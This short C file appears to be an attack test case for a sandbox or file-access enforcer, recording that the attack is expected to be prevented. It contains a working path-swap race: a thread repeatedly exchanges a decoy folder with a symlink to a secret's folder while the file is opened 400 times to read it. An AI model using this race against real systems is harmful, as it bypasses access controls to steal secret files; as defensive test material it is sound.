/* The folder in the middle of a path is exchanged between one without and one with the secret, 400 opens.
 *
 * seen: nothing
 * enforce: prevented
 */
#include "attack.h"

static void *swap(void *unused) {
    for (const char *a = work("a"), *b = work("b");; pause_a_little())
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
    return unused;
}

void attack(void) {
    char folder[4096];
    strcpy(folder, given("SECRET"));
    *strrchr(folder, '/') = 0;
    mkdir(work("a"), 0777);
    copy(given("ALLOWED_LIBRARY"), work("a/id_secret"), 0644);
    symlink(folder, work("b"));
    beside(swap, NULL);
    for (int i = 0; i < 400; i++)
        print_file(work("a/id_secret"));
}
